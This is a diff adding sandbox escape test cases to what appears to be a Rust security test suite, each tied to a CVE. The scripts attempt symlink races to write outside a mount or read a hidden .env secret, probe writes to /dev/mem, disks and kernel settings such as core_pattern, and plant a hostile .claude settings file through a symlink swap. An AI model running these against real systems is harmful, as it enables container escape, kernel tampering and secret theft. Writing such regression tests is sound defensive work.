@@ -256,4 +256,51 @@ except OSError: pass\" & until grep -q ready $OUT; do sleep 0.1; done
             mv app old; mkdir app; ln -s ../mine app/.claude'",
         escaped: "test -e .claude || grep -q evil app/.claude/settings.json",
     },
+    Live {
+        id: "CVE-2026-31431",
+        attack: "sockets of the kernel's crypto API write to files that are only readable",
+        tiers: Tier::ALL,
+        control: SaysNothing,
+        script: "box python3 -c \"import socket
+for kind in (5, 2, 1):
+    try: socket.socket(38, kind, 0); print('REACHED')
+    except OSError as e: print(e)\"",
+        escaped: "grep -q REACHED $OUT",
+    },
+    Live {
+        id: "GHSA-pxhw-h44j-8pfx",
+        attack: "a link on the way to a mount point leads what is made during setup to files outside",
+        tiers: Tier::ALL,
+        control: SaysNothing,
+        script: "mkdir $B/canary d; echo x > d/.envrc; echo KEY=$N > d/.env; ln -s $B/canary link
+            (while :; do mv -T d e; mv -T link d; mv -T d link; mv -T e d; done) & p=$!
+            for i in $(seq 15); do box true; done; kill $p",
+        escaped: "find $B/canary -mindepth 1 | grep -q .",
+    },
+    Live {
+        id: "CVE-2025-31133",
+        attack: "a file that is to be hidden is a link when it is hidden",
+        tiers: WITH_NAMES,
+        control: Succeeds,
+        script: "echo KEY=$N > .env; echo x > other
+            box timeout 6 sh -c 'while :; do mv -T .env e; ln -s other .env; rm -f .env; mv -T e .env; done' &
+            for i in $(seq 8); do box sh -c 'cat .env e'; done; wait",
+        escaped: "grep -q $N $OUT",
+    },
+    Live {
+        id: "CVE-2025-52565",
+        attack: "the console of the sandbox is a device of the machine",
+        tiers: Tier::ALL,
+        control: SaysNothing,
+        script: "box sh -c 'for device in /dev/console /dev/tty0 /dev/ttyS0 /dev/mem /dev/kmsg /dev/sda /dev/vda; do (: > $device) && test -c $device && echo REACHED; done'",
+        escaped: "grep -q REACHED $OUT",
+    },
+    Live {
+        id: "CVE-2025-52881",
+        attack: "settings of the kernel are written through its file system",
+        tiers: Tier::ALL,
+        control: SaysNothing,
+        script: "box sh -c 'for file in /proc/sys/kernel/core_pattern /proc/sysrq-trigger /proc/sys/kernel/modprobe /sys/kernel/uevent_helper; do (: >> $file) && echo REACHED $file; done'",
+        escaped: "grep -q REACHED $OUT",
+    },
 ];
